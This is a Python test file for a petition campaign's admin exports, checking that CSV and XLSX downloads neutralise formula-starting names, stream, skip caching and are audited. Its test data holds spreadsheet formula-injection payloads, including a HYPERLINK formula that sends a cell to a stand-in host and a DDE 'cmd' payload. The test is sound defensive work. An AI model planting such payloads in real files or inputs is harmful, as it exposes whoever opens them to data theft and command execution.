"""Exports: hostile names come out as text in CSV and XLSX; downloads are streamed, never
cached, audited; the command line exports too; the list to publish holds only what may be."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

import asyncpg
import openpyxl
import pytest

from campaign.moderation.exports import neutralise
from tests.support.admin import logged_in, make_signature

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("value", [*HOSTILE, "\x00=1+1", " =1+1"])
def test_formula_starts_are_neutralised(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Anne", "Jean-Pierre", "O'Neil", "Ève", ""])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert neutralise(value) == value


async def test_csv_and_xlsx_exports_keep_hostile_names_as_text(
    server: str, db: asyncpg.Connection
) -> None:
    ref = "hostile-export"
    for i, value in enumerate(HOSTILE):
        await make_signature(db, given_name=value, family_name=f"Hostile{i}", ref=ref)
    await make_signature(db, given_name="  =1+1", family_name="Espaces", ref=ref)
    # NUL cannot be stored by PostgreSQL; a name starting with a tab, CR or LF can.
    await make_signature(db, given_name="\r\n=cmd|' /C calc'!A0", family_name="Dde", ref=ref)
    async with logged_in(server, db, "organiser") as organiser:
        response = await organiser.get("/admin/export.csv", params={"relais": ref})
        assert response.status_code == 200
        assert response.headers["cache-control"] == "no-store"
        assert response.headers["content-type"].startswith("text/csv")
        assert "attachment" in response.headers["content-disposition"]
        assert "content-length" not in response.headers  # streamed
        text = response.content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text), delimiter=";"))
        header, body = rows[0], rows[1:]
        assert len(body) == len(HOSTILE) + 2
        names = [r[header.index("prénom")] for r in body]
        for name in names:
            assert name.startswith("'"), name

        response = await organiser.get("/admin/export.xlsx", params={"relais": ref})
        assert response.status_code == 200
        assert response.headers["cache-control"] == "no-store"
        book = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
        sheet = book.active
        cells = list(sheet.iter_rows(values_only=True))
        assert cells[0][1] == "prénom"
        for row in cells[1:]:
            assert isinstance(row[1], str)
            assert row[1].startswith("'"), row[1]
        assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
    exports = await db.fetch(
        "SELECT detail->>'format' AS format FROM audit_log WHERE action = 'export' "
        "AND organiser_email = $1 ORDER BY id",
        organiser.email,
    )  # type: ignore[attr-defined]
    assert [e["format"] for e in exports] == ["csv", "xlsx"]


async def test_a_large_export_streams_every_row(server: str, db: asyncpg.Connection) -> None:
    ref = "gros-export"
    campaign = await db.fetchrow(
        "SELECT id, current_version FROM campaigns WHERE slug = 'jouer-collectif'"
    )
    await db.execute(
        """INSERT INTO signatures (campaign_id, email, given_name, family_name, mandate,
               territory_level, territory_code, public, ref, letter_version, status)
           SELECT $1, 'gros.' || g || '@mairie-test.fr', 'Prénom' || g, 'Nom' || g, 'adjoint',
                  'commune', '33063', true, $3, $2, 'pending'
           FROM generate_series(1, 5000) g""",
        campaign["id"],
        campaign["current_version"],
        ref,
    )
    async with logged_in(server, db, "organiser") as organiser:
        async with organiser.stream("GET", "/admin/export.csv", params={"relais": ref}) as response:
            chunks = [chunk async for chunk in response.aiter_bytes()]
        assert len(chunks) > 1
        lines = b"".join(chunks).decode("utf-8-sig").strip().split("\r\n")
        assert len(lines) == 5001
        xlsx = await organiser.get("/admin/export.xlsx", params={"relais": ref})
        sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content), read_only=True).active
        assert sum(1 for _ in sheet.iter_rows()) == 5001


async def test_export_from_the_command_line(dsn: str, db: asyncpg.Connection, tmp_path) -> None:
    await make_signature(db, given_name="=1+2", family_name="Ligne")
    # Issue 14: a register match only, and a signer the organisers attested.
    matched = await make_signature(db, given_name="Mandat", family_name="Trouvé-Export")
    attested = await make_signature(db, given_name="Élue", family_name="Attestée-Export")
    await db.execute(
        "UPDATE signatures SET verification_override = 'verified' WHERE id = ANY ($1::bigint[])",
        [matched, attested],
    )
    await db.execute(
        "UPDATE signatures SET proof = 'organisers', proof_at = now() WHERE id = $1", attested
    )
    out = tmp_path / "signataires.csv"
    env = {**os.environ, "DATABASE_URL": dsn}
    done = subprocess.run(
        [sys.executable, "-m", "campaign", "export", "--status", "confirmed", "-o", str(out)],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(out.read_text("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["id", "prénom", "nom"]
    assert {r[rows[0].index("statut")] for r in rows[1:]} == {"Confirmée"}
    assert ["'=1+2", "Ligne"] in [r[1:3] for r in rows[1:]]
    header = rows[0]
    levels = {
        r[2]: (r[header.index("élu·e vérifié·e")], r[header.index("preuve")],
               r[header.index("mandat trouvé au RNE")])
        for r in rows[1:]
    }  # fmt: skip
    assert levels["Trouvé-Export"] == ("non", "", "oui")
    assert levels["Attestée-Export"] == ("oui", "équipe", "oui")
    to_stdout = subprocess.run(
        [sys.executable, "-m", "campaign", "export", "--status", "rejected"],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        check=False,
    )
    assert to_stdout.returncode == 0
    assert to_stdout.stdout.lstrip("\ufeff").startswith('"id";"prénom"')


async def test_the_list_to_publish_holds_only_confirmed_consenting_signatories(
    server: str, db: asyncpg.Connection
) -> None:
    await make_signature(db, given_name="Publiée", family_name="Oui", code="2A004")
    await make_signature(db, given_name="Discrète", family_name="Non", public=False)
    await make_signature(db, given_name="Attente", family_name="Non", status="pending")
    await make_signature(db, given_name="Rejetée", family_name="Non", status="rejected")
    await make_signature(
        db,
        given_name="Régionale",
        family_name="Oui",
        mandate="conseiller_regional",
        level="region",
        code="94",
    )
    async with logged_in(server, db, "viewer") as viewer:
        page = await viewer.get("/admin/liste-a-publier")
        assert page.status_code == 200
        html = page.text
    assert "Publiée Oui" in html and "Régionale Oui" in html
    assert "Corse" in html and "Corse-du-Sud (2A)" in html
    for hidden in ("Discrète", "Attente", "Rejetée"):
        assert f"{hidden} Non" not in html
    assert "@media print" in (await viewer_css(server))


async def viewer_css(server: str) -> str:
    import httpx

    async with httpx.AsyncClient(base_url=server) as client:
        return (await client.get("/static/admin.css")).text
